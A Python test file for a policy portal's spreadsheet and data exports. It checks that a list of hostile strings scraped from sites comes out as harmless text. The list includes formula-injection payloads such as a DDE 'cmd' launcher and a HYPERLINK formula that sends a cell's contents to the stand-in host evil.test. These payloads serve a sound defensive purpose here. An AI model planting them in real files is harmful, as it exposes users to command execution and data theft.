"""Every format gives back what went into it, whatever a site sent."""

import csv
import io
import json
import os
import signal
import subprocess
import sys
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import msgspec
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from made_policies import NOW, make_policy
from python_calamine import CalamineWorkbook

from normalizers.policy import Attachment, decode_policy
from pipelines.disk import DiskFull
from pipelines.policies import StoredPolicy
from portal.exports import xlsx_file
from portal.exports.csv_file import FORMULA, GUARD, guarded
from portal.exports.formats import FORMATS, Format, open_writer
from portal.exports.parquet_file import ParquetWriter
from portal.exports.rows import COLUMNS, Rows
from portal.exports.writer import file_pieces
from portal.exports.xlsx_file import CELL_UNITS, XlsxWriter, cut, heading
from portal.labels import Label
from portal.records import whole

LABEL = Label({"region": {"990000": "演示省"}, "site": {"demo_0": "演示门户"}})
NAMES = [column.name for column in COLUMNS]
# What a hostile site may put where a title should be, and what a table of text shows of it.
HOSTILE = [
    ("=1+1", "=1+1"),
    ('=HYPERLINK("http://evil.test/?"&A1,"看")', '=HYPERLINK("http://evil.test/?"&A1,"看")'),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ("+1+cmd", "+1+cmd"),
    ("-2+3", "-2+3"),
    ("@SUM(1:9)", "@SUM(1:9)"),
    ("\t=1+1", "\t=1+1"),
    ("\r=1+1", "\n=1+1"),
    ("\n=1+1", "\n=1+1"),
    ("  =1+1", "  =1+1"),
    ("\u3000@SUM(1)", "\u3000@SUM(1)"),
    ("\x00=1+1", "=1+1"),
    ("＝1＋1", "＝1＋1"),
    ("－2", "－2"),
    ("'=1+1", "'=1+1"),
    ("''", "''"),
    ('a","=1+1', 'a","=1+1'),
    ("a;=1+1;b", "a;=1+1;b"),
    ("a\r\n=1+1\r\nb", "a\n=1+1\nb"),
    ("引号\"与'与,与;", "引号\"与'与,与;"),
    ("控\x01制\x1b字\x7f符", "控制字符"),
    ("零\x00字节", "零字节"),
    ("半\ud800个\udfff字", "半\ufffd个\ufffd字"),
    ("非\ufffe字\uffff符", "非字符"),
    ("_x0041_ 不是 A", "_x0041_ 不是 A"),
    ("{=1+1}", "{=1+1}"),
    ("<b>&amp;</b>", "<b>&amp;</b>"),
    ("http://evil.test/", "http://evil.test/"),
    ("mailto:a@evil.test", "mailto:a@evil.test"),
    ("internal:Sheet1!A1", "internal:Sheet1!A1"),
    ("1e5", "1e5"),
    ("0012", "0012"),
    ("2023-1", "2023-1"),
    ("TRUE", "TRUE"),
    ("\ufeff标记", "\ufeff标记"),
    ("𠮷\U0001f600", "𠮷\U0001f600"),
]


def stored(n: int = 0, **values: object) -> StoredPolicy:
    return StoredPolicy(make_policy(n, **values), "hash", NOW, NOW, NOW, False, None)


def exported(kind: Format, pieces: Sequence[Sequence[StoredPolicy]], text: bool = True) -> bytes:
    return b"".join(file_pieces(open_writer(kind, LABEL, text), pieces))


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[list[list[Any]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [book.get_sheet_by_name(name).to_python() for name in book.sheet_names]


def unguarded(text: str) -> str:
    return text[1:] if text.startswith(GUARD) else text


@pytest.mark.parametrize(("given_text", "shown"), HOSTILE)
def test_a_hostile_text_is_a_text_in_every_format(given_text: str, shown: str) -> None:
    one = stored(title=given_text, issuers=(given_text,), text=f"{given_text}\n{given_text}", keywords=())
    line = dict(zip(NAMES, read_csv(exported("csv", [[one]]))[1], strict=True))
    for name in ("title", "issuers", "text"):
        assert not line[name] or line[name].lstrip()[:1] not in FORMULA - {GUARD}
    assert (unguarded(line["title"]), unguarded(line["issuers"])) == (shown, shown)
    (sheet,) = read_xlsx(exported("xlsx", [[one]]))
    assert (sheet[1][1], sheet[1][3], sheet[1][-1]) == (shown, shown, unguarded(line["text"]))
    whole_text = "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in given_text)
    assert json.loads(exported("jsonl", [[one]]))["title"] == whole_text
    (row,) = pq.read_table(io.BytesIO(exported("parquet", [[one]]))).to_pylist()
    assert (row["title"], row["issuers"]) == (whole_text, [whole_text])


def test_no_cell_of_a_workbook_is_a_formula_or_a_link() -> None:
    data = exported("xlsx", [[stored(n, title=text, url=text) for n, (text, _) in enumerate(HOSTILE)]])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert sorted(book.namelist()) == [
            "[Content_Types].xml",
            "_rels/.rels",
            "docProps/app.xml",
            "docProps/core.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/theme/theme1.xml",
            "xl/workbook.xml",
            "xl/worksheets/sheet1.xml",
        ]
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<hyperlink" not in sheet
    assert len(read_xlsx(data)[0]) == 1 + len(HOSTILE)


@given(st.text())
def test_one_guard_taken_off_gives_every_text_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert cell.strip()[:1] not in FORMULA - {GUARD}


def test_a_row_has_what_the_record_has() -> None:
    files = (
        Attachment("http://demo.test/a.pdf", "附件.pdf", "pdf", "表"),
        Attachment("http://demo.test/b", "乙"),
    )
    one = stored(
        region="990000",
        level="provincial",
        site="demo_0",
        validity="repealed",
        issuers=("演示省人民政府", "演示市财政局"),
        written_date=date(2023, 5, 1),
        date_precision={"written_date": "month"},
        published_date=None,
        normative=True,
        attachments=files,
        title=None,
    )
    row = dict(zip(NAMES, Rows(LABEL)(one), strict=True))
    assert row["issuers"] == ("演示省人民政府", "演示市财政局")
    assert (row["region"], row["region_name"], row["level_name"]) == ("990000", "演示省", "省级")
    assert (row["site_name"], row["validity_name"], row["title"]) == ("演示门户", "已废止", None)
    assert (row["written_date"], row["written_precision"]) == (date(2023, 5, 1), "month")
    assert (row["published_date"], row["published_precision"]) == (None, None)
    assert row["attachments"] == ("附件.pdf", "乙")
    line = dict(zip(NAMES, read_csv(exported("csv", [[one]]))[1], strict=True))
    assert line["issuers"] == "演示省人民政府；演示市财政局"
    assert (line["written_date"], line["published_date"], line["title"]) == ("2023-05-01", "", "")
    assert (line["first_seen"], line["withdrawn"], line["normative"]) == (
        "2026-03-02T18:00:00Z",
        "false",
        "true",
    )
    (sheet,) = read_xlsx(exported("xlsx", [[one]]))
    cells = dict(zip(NAMES, sheet[1], strict=True))
    assert (cells["written_date"], cells["withdrawn"]) == (date(2023, 5, 1), False)
    assert sheet[0] == [heading(column) for column in COLUMNS]
    (typed,) = pq.read_table(io.BytesIO(exported("parquet", [[one]]))).to_pylist()
    assert typed["written_date"] == date(2023, 5, 1)
    assert typed["first_seen"] == datetime(2026, 3, 2, 18, tzinfo=UTC)
    assert (typed["normative"], typed["withdrawn"], typed["published_date"]) == (True, False, None)


def test_days_before_excel_are_texts() -> None:
    (sheet,) = read_xlsx(exported("xlsx", [[stored(written_date=date(1899, 12, 31))]]))
    assert sheet[1][NAMES.index("written_date")] == "1899-12-31"


def test_jsonl_is_the_record_of_the_api() -> None:
    many = [stored(n) for n in range(7)]
    lines = exported("jsonl", [many[:3], many[3:]]).splitlines()
    assert lines == [msgspec.json.encode(whole(one)) for one in many]
    assert [decode_policy(line) for line in lines] == [one.policy for one in many]


@pytest.mark.parametrize("kind", list(FORMATS))
def test_without_texts_all_else_stays(kind: Format) -> None:
    secret = "正文里的暗号"
    one = stored(text=secret, attachments=(Attachment("http://demo.test/a", "甲.pdf", "pdf", secret),))
    bare = exported(kind, [[one]], text=False)
    assert secret.encode() not in bare
    if kind == "csv":
        assert read_csv(bare)[0] == NAMES[:-1]
    elif kind == "xlsx":
        assert [len(row) for row in read_xlsx(bare)[0]] == [len(NAMES) - 1] * 2
    elif kind == "parquet":
        assert pq.read_schema(io.BytesIO(bare)).names == NAMES[:-1]
    else:
        record = json.loads(bare)
        assert set(record) == set(msgspec.to_builtins(whole(one)))
        assert (record["title"], record["attachments"][0]["name"]) == (one.policy.title, "甲.pdf")


@pytest.mark.parametrize("kind", list(FORMATS))
def test_a_result_of_nothing_is_a_whole_file(kind: Format) -> None:
    data = exported(kind, [])
    if kind == "csv":
        assert read_csv(data) == [NAMES]
    elif kind == "xlsx":
        assert len(read_xlsx(data)[0]) == 1
    elif kind == "parquet":
        table = pq.read_table(io.BytesIO(data))
        assert (table.num_rows, table.column_names) == (0, NAMES)
    else:
        assert data == b""


def test_a_full_sheet_is_followed_by_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file, "SHEET_ROWS", 4)
    many = [stored(n) for n in range(8)]
    sheets = read_xlsx(exported("xlsx", [many[:2], many[2:7], many[7:]]))
    assert [len(sheet) for sheet in sheets] == [4, 4, 3]
    assert all(sheet[0] == sheets[0][0] for sheet in sheets)
    assert [row[0] for sheet in sheets for row in sheet[1:]] == [one.policy.id for one in many]
    exactly = read_xlsx(exported("xlsx", [many[:3]]))
    assert [len(sheet) for sheet in exactly] == [4]


def test_a_long_cell_is_cut_and_says_so() -> None:
    assert xlsx_file.SHEET_ROWS == 2**20
    fits, long, wide = "字" * CELL_UNITS, "字" * (CELL_UNITS + 1), "𠮷" * 20_000
    assert cut(fits) == fits
    for text in (long, wide):
        short = cut(text)
        assert short.endswith(f"……〔单元格放不下，原文共 {len(text)} 字〕")
        assert CELL_UNITS - 2 < len(short.encode("utf-16-le")) // 2 <= CELL_UNITS
        assert text.startswith(short.partition("……")[0])
    (sheet,) = read_xlsx(exported("xlsx", [[stored(text=wide)]]))
    assert sheet[1][-1] == cut(wide)
    assert read_csv(exported("csv", [[stored(text=wide)]]))[1][-1] == wide


def test_row_groups_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("portal.exports.parquet_file.GROUP_ROWS", 4)
    monkeypatch.setattr("portal.exports.parquet_file.GROUP_CHARACTERS", 1000)
    many = [stored(n, text="短" * 100) for n in range(9)] + [stored(9, text="长" * 5000), stored(10, text="")]
    data = exported("parquet", [many[:5], many[5:]])
    file = pq.ParquetFile(io.BytesIO(data))
    groups = [file.metadata.row_group(n) for n in range(file.num_row_groups)]
    assert [group.num_rows for group in groups] == [4, 4, 2, 1]
    assert groups[0].column(0).compression == "ZSTD"
    assert file.read().column("id").to_pylist() == [one.policy.id for one in many]


def test_what_is_ready_leaves_at_once() -> None:
    writer = ParquetWriter(Rows(LABEL))
    first = writer.write([stored(n, text="长" * 90_000) for n in range(90)])
    assert len(first) > 100
    writer.close()


@pytest.mark.parametrize("kind", list(FORMATS))
def test_a_file_that_breaks_off_leaves_nothing(kind: Format, tmp_path: Path) -> None:
    def broken() -> Iterator[list[StoredPolicy]]:
        yield [stored(n) for n in range(5)]
        raise RuntimeError("演示")

    pieces = file_pieces(open_writer(kind, LABEL, True, tmp_path), broken())
    with pytest.raises(RuntimeError, match="演示"):
        b"".join(pieces)
    assert list(tmp_path.iterdir()) == []


def test_a_disk_nearly_full_stops_a_workbook(tmp_path: Path) -> None:
    writer = XlsxWriter(Rows(LABEL), tmp_path, spare=1 << 60)
    with pytest.raises(DiskFull):
        writer.write([stored()])
    writer.close()
    assert list(tmp_path.iterdir()) == []


def test_what_a_killed_export_left_is_removed_by_a_later_one(tmp_path: Path) -> None:
    program = (
        "import os, signal, sys\nfrom pathlib import Path\n"
        "from portal.exports.rows import Rows\nfrom portal.exports.xlsx_file import XlsxWriter\n"
        "from portal.labels import Label\n"
        "writer = XlsxWriter(Rows(Label({})), Path(sys.argv[1]), spare=0)\n"
        "os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    killed = subprocess.run([sys.executable, "-c", program, str(tmp_path)], check=False, timeout=280)
    assert killed.returncode == -signal.SIGKILL
    (left,) = tmp_path.iterdir()
    assert any(left.iterdir())
    mine = tmp_path / f"{xlsx_file.PREFIX}of-a-user"
    mine.mkdir()
    for one in (mine, left, *left.iterdir()):
        os.utime(one, (0, 0))
    young, other = tmp_path / f"{xlsx_file.PREFIX}abcdefgh", tmp_path / f"{xlsx_file.PREFIX}a_link_0"
    young.mkdir()
    other.symlink_to(mine)
    XlsxWriter(Rows(LABEL), tmp_path, spare=0).close()
    assert set(tmp_path.iterdir()) == {mine, young, other}


def test_every_column_is_described() -> None:
    lines = (Path(__file__).parents[2] / "docs" / "exports.md").read_text().splitlines()
    described = [line.split("|")[1:3] for line in lines if line.startswith("| `")]
    types = {"text": "text", "texts": "list of text", "day": "day", "instant": "instant", "flag": "flag"}
    expected = [[f" `{one.name}` ", f" {types[one.kind]} "] for one in COLUMNS]
    assert described[4 : 4 + len(COLUMNS)] == expected
